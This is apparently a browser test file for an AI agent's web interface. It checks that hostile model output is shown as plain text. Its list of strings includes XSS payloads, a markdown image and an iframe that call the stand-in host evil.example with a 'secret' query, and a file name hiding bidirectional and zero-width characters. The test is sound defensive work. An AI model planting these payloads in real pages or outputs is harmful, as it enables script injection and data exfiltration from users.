// Hostile text in names, messages, results and titles: it is text on the page, and nothing else (W2, W3, B16, B17).
import { describe, expect } from 'vitest';

import { expectClean, missingBrowser, openPage, pageLink, useBrowser } from '../support/browser.ts';
import { beginCall } from '../support/scripts.ts';
import { serve } from '../support/serve.ts';
import { test } from '../support/test.ts';

const ATTACKS = [
  '<img src=x onerror="window.hacked=1">',
  '<script>window.hacked=1</script>',
  '</script><svg/onload=window.hacked=1>',
  '[click](javascript:window.hacked=1)',
  '![pixel](https://evil.example/?q=secret)',
  '<iframe src="https://evil.example">',
  '[data](data:text/html,<script>1</script>)',
  '`${window.hacked=1}`',
];
const FILE = 'a\u202egnp.<b>x<\u200bb>.md';

describe.skipIf(missingBrowser !== null)('hostile text on the page', () => {
  const browser = useBrowser();

  test('becomes neither markup nor a request, and hidden characters are in sight', async ({
    machine,
  }) => {
    const said = ATTACKS.join('\n\n');
    const provider = await machine.provider({
      behaviours: [
        { name: 'text', when: { toolChoice: 'none' }, reply: { text: `${said}\nDONE\n` } },
        beginCall({ target_file: FILE }),
        { name: 'last word', reply: { text: said } },
      ],
    });
    const server = await serve(machine, ['--base-url', provider.url, '--model', 'scripted']);
    const watched = await openPage(browser(), pageLink(server));
    const { page } = watched;
    await page.getByRole('navigation').getByRole('link', { name: 'Conversations' }).click();
    await page.getByRole('link', { name: 'New conversation' }).click();
    await page.getByLabel('Message').fill(said);
    await page.getByRole('button', { name: 'Send' }).click();
    await page.getByRole('region', { name: 'Receipt' }).waitFor();
    await page.getByText('[image: pixel]').waitFor();
    for (const link of await page.locator('.prose a').all())
      expect(await link.getAttribute('href')).toMatch(/^https:\/\/evil\.example\//u);
    expect(
      await page.locator('.prose').getByText('<script>window.hacked=1</script>').count(),
    ).toBeGreaterThan(0);
    expect(await page.getByText('a\\u{202e}gnp.<b>x<\\u{200b}b>.md').count()).toBeGreaterThan(0);

    await page.getByRole('button', { name: 'Diff' }).click();
    await page.getByRole('table').first().waitFor();
    for (const view of ['Conversations', 'Changes', 'Traces', 'Writes', 'Now']) {
      await page.getByRole('navigation').getByRole('link', { name: view }).click();
      await page.getByRole('heading', { level: 1, name: view }).waitFor();
    }
    const found = await page.evaluate(() => ({
      hacked: 'hacked' in window,
      elements: document.querySelectorAll('#root img, #root iframe, #root svg, #root script')
        .length,
    }));
    expect(found).toEqual({ hacked: false, elements: 0 });
    expectClean(watched, server.url);
  });
});
